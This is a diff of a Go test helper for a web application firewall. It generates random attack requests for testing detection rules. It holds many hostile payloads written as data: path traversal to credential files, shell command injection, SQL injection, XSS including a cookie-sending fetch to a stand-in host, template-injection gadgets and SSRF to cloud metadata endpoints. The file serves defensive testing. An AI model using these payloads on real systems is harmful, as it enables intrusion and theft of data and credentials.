@@ -1,4 +1,4 @@
-package sieve_test
+package waftest
 
 import (
 	"encoding/base64"
@@ -11,22 +11,23 @@ import (
 	"haechi/internal/inspect/waf"
 )
 
-// assault makes attacks: a payload of a class, written in one of the ways in which it
+// Assault makes attacks: a payload of a class, written in one of the ways in which it
 // still works, in one of the places that an application reads. The payloads are what
 // public handbooks of testers name first; none was looked at when rules were written.
-type assault struct{ *rand.Rand }
+type Assault struct{ *rand.Rand }
 
-func newAssault(seed uint64) assault { return assault{rand.New(rand.NewPCG(seed, 0x61737361756c74))} }
+// NewAssault makes the same attacks for the same seed.
+func NewAssault(seed uint64) Assault { return Assault{rand.New(rand.NewPCG(seed, 0x61737361756c74))} }
 
-func one[T any](a assault, all ...T) T { return all[a.IntN(len(all))] }
+func one[T any](a Assault, all ...T) T { return all[a.IntN(len(all))] }
 
-// classes are the classes of attacks that assault makes.
-func classes() []string {
+// Classes are the classes of attacks that [Assault] makes.
+func Classes() []string {
 	return []string{"traversal", "command", "sql", "script", "template", "server-side request", "php", "java"}
 }
 
 // payload is an attack as an application has to see it.
-func (a assault) payload(class string) string {
+func (a Assault) payload(class string) string {
 	switch class {
 	case "traversal":
 		return a.traversal()
@@ -49,16 +50,16 @@ func (a assault) payload(class string) string {
 		"class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "java.lang.ProcessBuilder")
 }
 
-func (a assault) number() string { return fmt.Sprint(a.IntN(900) + 10) }
+func (a Assault) number() string { return fmt.Sprint(a.IntN(900) + 10) }
 
-func (a assault) traversal() string {
+func (a Assault) traversal() string {
 	file := one(a, "etc/passwd", "etc/hosts", "proc/self/environ", "windows/win.ini", "app/config/settings.yml", "WEB-INF/web.xml", "var/log/app/access.log", "srv/data/customers.csv")
 	n := a.IntN(5) + 2
 	up := one(a, "../", "..\\", "....//", "....\\\\", "..;/", "%2e%2e/", "..%2f", "%252e%252e%252f", "..%c0%af", "%c0%ae%c0%ae/", "..%255c", "%%32%65%%32%65/", "..././", "/%5c../", "..%00/", "%uff0e%uff0e/")
 	return one(a, "", "/", "images/", "/var/www/html/") + strings.Repeat(up, n) + one(a, file, strings.ReplaceAll(file, "/", "\\")) + one(a, "", "", "%00.png", "\x00.jpg", "?.css")
 }
 
-func (a assault) command() string {
+func (a Assault) command() string {
 	before := one(a, ";", "|", "||", "&", "&&", "\n", "`", "$(", "'; ", "\"; ", "%0a", "a;", "10.0.0.1|", "x'&")
 	after := map[string]string{"`": "`", "$(": ")"}[before]
 	run := one(a, "id", "whoami", "uname -a", "cat /etc/passwd", "cat</etc/passwd", "cat$IFS$9/etc/hostname", "{cat,/etc/hostname}", "c''at /etc/hostname", "c\\at /etc/hostname", "w'h'oami",
@@ -68,7 +69,7 @@ func (a assault) command() string {
 	return one(a, "", "name", a.number()) + before + one(a, "", " ") + run + after + one(a, "", ";", " #", "\n", " || x")
 }
 
-func (a assault) sql() string {
+func (a Assault) sql() string {
 	q := one(a, "'", "\"", "", "')", "'))")
 	return one(a, a.number(), "x", "") + q + one(a, " or 1=1", " or '1'='1", " union select null,null,version()", "/**/union/**/all/**/select/**/1,2,3", " and sleep("+a.number()+")",
 		"; drop table users", "; exec xp_cmdshell 'dir'", " and 1=convert(int,@@version)", " or exists(select 1 from users)", "||(select pg_sleep(9))||", " and extractvalue(1,concat(0x7e,user()))",
@@ -76,7 +77,7 @@ func (a assault) sql() string {
 		" or true", " xor 1=1", "%' and 1=1 and '%'='", " procedure analyse(1)", " and (select 1 from dual)=1", " is not null") + one(a, "--", "-- -", "#", "/*", "", ";--")
 }
 
-func (a assault) script() string {
+func (a Assault) script() string {
 	call := one(a, "alert(1)", "confirm`1`", "alert(document.cookie)", "fetch('//a.example/'+document.cookie)", "eval(atob('YWxlcnQoMSk='))", "top['al'+'ert'](1)", "print()")
 	return one(a, "", "x", "\">", "'>", "</title>", "</textarea>", "-->") + one(a, "<script>"+call+"</script>", "<img src=x onerror="+call+">", "<svg/onload="+call+">", "<body onload="+call+">",
 		"<iframe src=javascript:"+call+">", "javascript:"+call, "<a href=\"java\tscript:"+call+"\">x</a>", "<details open ontoggle="+call+">", "<input autofocus onfocus="+call+">", "<ScRiPt>"+call+"</sCrIpT>",
@@ -84,7 +85,7 @@ func (a assault) script() string {
 		"<style>@import'//a.example/x'</style>", "<base href=//a.example/>", "<meta http-equiv=refresh content=0;url=javascript:"+call+">", "{{constructor.constructor('"+call+"')()}}", "<video><source onerror="+call+">")
 }
 
-func (a assault) template() string {
+func (a Assault) template() string {
 	n, m := a.number(), a.number()
 	return one(a, "", "x ", "Dear ") + one(a, "{{"+n+"*"+m+"}}", "${"+n+"*"+m+"}", "<%= "+n+"*"+m+" %>", "#{"+n+"*"+m+"}", "*{"+n+"*"+m+"}", "@("+n+"*"+m+")", "{{'"+n+"'*"+m+"}}",
 		"{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__}}", "{{self.__init__.__globals__}}", "{{_self.env.registerUndefinedFilterCallback('exec')}}",
@@ -92,21 +93,21 @@ func (a assault) template() string {
 		"${self.module.cache.util.os.system('id')}", "{php}echo `id`;{/php}")
 }
 
-func (a assault) request() string {
+func (a Assault) request() string {
 	host := one(a, "127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "017700000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "169.254.169.254", "metadata.google.internal", "10.0.0.5", "0", "[fd00::5]", "127.0.0.1.nip.io")
 	return one(a, "http://", "https://", "gopher://", "dict://", "ftp://", "file://", "http://shop.example@", "ldap://") + host + one(a, "", ":6379", ":8080", ":22") + one(a, "/", "/admin", "/latest/meta-data/iam/security-credentials/", "/_config", "/etc/passwd")
 }
 
-// make puts a payload into a request.
-func (a assault) make(class string) *waf.View {
-	b := benign(a)
+// Make puts a payload into a request.
+func (a Assault) Make(class string) *waf.View {
+	b := Benign(a)
 	p := a.payload(class)
 	if a.IntN(12) == 0 {
 		p = base64.StdEncoding.EncodeToString([]byte(p))
 	}
-	name := one(a, "q", "file", "url", "id", "name", "page", "redirect", "comment", "host", "template")
+	name := one(a, names()...)
 	written := a.written(p)
-	v := b.make("page")
+	v := b.Make("page")
 	v.Target, _, _ = strings.Cut(v.Target, "?")
 	switch a.IntN(8) {
 	case 0, 1, 2, 3:
@@ -128,7 +129,7 @@ func (a assault) make(class string) *waf.View {
 }
 
 // written is how a payload stands in a query: escaped, or already as it is sent.
-func (a assault) written(p string) string {
+func (a Assault) written(p string) string {
 	if strings.Contains(p, "%") && a.IntN(2) == 0 {
 		return strings.NewReplacer(" ", "+", "&", "%26", "#", "%23", "\n", "%0a", "\x00", "%00", "\t", "%09", "\"", "%22").Replace(p)
 	}
